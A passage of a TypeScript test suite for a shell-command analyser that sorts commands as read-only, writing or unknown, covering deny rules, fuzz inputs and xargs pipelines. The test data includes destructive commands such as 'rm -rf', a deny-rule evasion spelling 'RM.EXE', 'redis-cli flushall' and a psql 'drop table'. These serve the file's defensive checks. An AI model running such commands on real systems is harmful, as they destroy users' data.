    ['RM.EXE -rf x', 'rm -rf x'],
  ])('by %s matches its deny rules', (command, spelling) => {
    const { class: cls, commands } = analyse(command, context);
    expect(commands[0]!.spellings).toContain(spelling);
    expect(cls).not.toBe('read-only');
  });

  test('a file that an awk program names is written', () => {
    const { class: cls, writes } = analyse('awk \'{ print > "src/x"; print $1 >> "y" } $1 > "z"\' a', context);
    expect([cls, writes.map(({ path }) => path)]).toEqual(['unknown', ['/p/src/x', '/p/y']]);
    expect(analyse('awk \'{ print > "/dev/stderr" }\' a', context)).toMatchObject({ class: 'read-only', writes: [] });
  });
});

describe('texts that fuzzing found', () => {
  test.each([
    ['`time', 'unknown'],
    ['echo `time`', 'read-only'],
    ['time', 'read-only'],
    ['! time && rm x', 'writes'],
    ['q|$(q|wc -l', 'unknown'],
    ['$(wc -l < a)', 'unknown'],
    ['-x $(wc -l < a)', 'unknown'],
  ])('%s is understood as %s', (command, cls) => {
    const facts = analyse(command, context);
    expect(facts.class).toBe(cls);
    expect(facts.why.map(({ text }) => text).join()).not.toContain(CRASHED);
  });

  test.each(['$(a ', '$(a $(( ', '$((', '{a,', '`a` ', '{x:$(touch p; ech> /dev/', '$(a) '])(
    '%j repeated many times is not followed to its end',
    (part) => {
      expect(analyse(part.repeat(9_900 / part.length), context)).toMatchObject({
        class: 'unknown',
        why: expect.arrayContaining([
          expect.objectContaining({ text: 'contains more substitutions or braces than Modes analyzes' }),
        ]),
        uncertain: expect.arrayContaining([expect.objectContaining({ anything: true })]),
      });
    },
  );

  test('a long text of a realistic length is followed', () => {
    expect(analyse(`echo ${'$(date) {a,b} '.repeat(190)}`, context).class).toBe('read-only');
  });
});

describe('commands that the project declares', () => {
  const declared = (trusted: boolean) => ({
    ...context,
    commands: [
      { match: 'mytool show *', class: 'read-only' as const, reads: [1], trusted },
      { match: 'mytool fix *', class: 'writes' as const, writes: 'all' as const, trusted },
      { match: 'ls', class: 'unknown' as const, trusted },
    ],
  });

  test('with trust they replace the built-in class', () => {
    expect(analyse('mytool show a --long', declared(true))).toMatchObject({ class: 'read-only', reads: [{ path: '/p/a' }] });
    expect(analyse('mytool fix a b', declared(true)).writes.map((w) => w.path)).toEqual(['/p/a', '/p/b']);
    expect(analyse('mytool other', declared(true)).class).toBe('unknown');
    expect(analyse('ls', declared(true)).class).toBe('unknown');
  });

  test('without trust they can only be stricter', () => {
    expect(analyse('mytool show a', declared(false)).class).toBe('unknown');
    expect(analyse('ls', declared(false)).class).toBe('unknown');
    expect(analyse('ls -la', declared(false)).class).toBe('read-only');
  });

  test('a function of the same name is what runs', () => {
    expect(analyse('mytool() { rm x; }; mytool show a', declared(true)).class).toBe('writes');
  });
});

describe('files that a listing leaves out are not read through it', () => {
  const skipped = (command: string) =>
    analyse(command, context).reads.find((t) => t.extent === 'deep' && t.what !== 'names')?.skips;
  test.each([
    ["find . -type f -name '*.ts' | xargs cat", { style: 'grep', globs: [{ text: '*.ts', skip: false, of: 'file' }] }],
    ['fd -e ts | xargs cat', { style: 'rg', hidden: true, ignored: true, globs: [{ text: '*.ts', skip: false, of: 'any' }] }],
    ['fd -u | xargs cat', { style: 'rg', hidden: false, ignored: false, globs: [] }],
    ["rg --files -g '!a' | xargs cat", { style: 'rg', globs: [{ text: 'a', skip: true, of: 'any' }] }],
    ["find . -type f -name '*.ts' | xargs grep x", { style: 'grep', globs: [{ text: '*.ts', skip: false, of: 'file' }] }],
    ['git ls-files | xargs grep -l x', { style: 'git', ignored: true }],
    ['fd -t f -e ts | xargs grep x', { style: 'rg' }],
    ["find . -name '*.ts' | xargs cat", { style: 'grep' }],
    ["find . -name '*.ts' -path x | xargs cat", { style: 'grep' }],
    ['git ls-files | xargs cat', { style: 'git', hidden: false, ignored: true, globs: [] }],
    ['git diff --name-only | xargs grep x', { style: 'git' }],
    ['git grep x', { style: 'git', hidden: false, ignored: true, globs: [] }],
  ])('%s', (command, skips) => {
    expect(skipped(command)).toMatchObject(skips);
  });
  test.each([
    "find . -name '*.ts' -o -name a | xargs cat",
    "find . ! -name '*.ts' | xargs cat",
    'find . -type f | xargs cat',
    'find . -name "$x" | xargs cat',
    'git ls-files -o | xargs cat',
    'find . -name a | xargs grep -r x',
    'find . -name a | xargs cp -rt b',
    'find . -name a | xargs -I{} cat {}/b',
    'for a in $(find . -name a); do cat $a/b; done',
    'fd -e ts "$x" | xargs rg x',
    'git status --short | xargs grep -r x',
    'git status --short | xargs cat',
    'git diff --name-only HEAD~3 | xargs cat',
    'git diff --cached --name-only | xargs cat',
    'git log --name-only | xargs cat',
    'git ls-tree -r --name-only HEAD | xargs cat',
    'git ls-files --with-tree=HEAD | xargs cat',
    'git ls-files -o --directory --exclude-standard | xargs grep -r x',
    'git grep --no-index x',
  ])('nothing of %s', (command) => {
    expect(analyse(command, context).reads.some((t) => t.extent === 'deep')).toBe(true);
    expect(skipped(command)).toBeUndefined();
  });
});

describe('the reason names the unknown part', () => {
  test.each([
    ['gh pr merge 1', 'gh pr merge is not in the list of commands that only read'],
    ['gh frobnicate x', 'gh frobnicate is not in the list of commands that only read'],
    ['docker volume rm v', 'docker volume rm is not in the list of commands that only read'],
    ['systemctl restart nginx', 'systemctl restart is not in the list of commands that only read'],
    ['aws s3 mb s3://b', 'aws s3 mb is not in the list of commands that only read'],
    ['az vm start -g g -n vm', 'az vm start is not in the list of commands that only read'],
    ['gcloud app deploy', 'gcloud app deploy is not in the list of commands that only read'],
    ['redis-cli flushall', 'redis-cli flushall is not in the list of commands that only read'],
    ['poetry install', 'poetry install installs packages and runs their scripts'],
    ['git stash', 'git stash changes files anywhere in the working tree'],
    ['mvn package', 'mvn runs recipes of the project'],
    ['make -n', 'make runs recipes of the project, some even with -n'],
    ["psql -c 'drop table t'", 'psql runs a statement that may be more than a query'],
  ])('%s', (command, text) => {
    expect(analyse(command, context).why.map((why) => why.text)).toContain(text);
  });
});
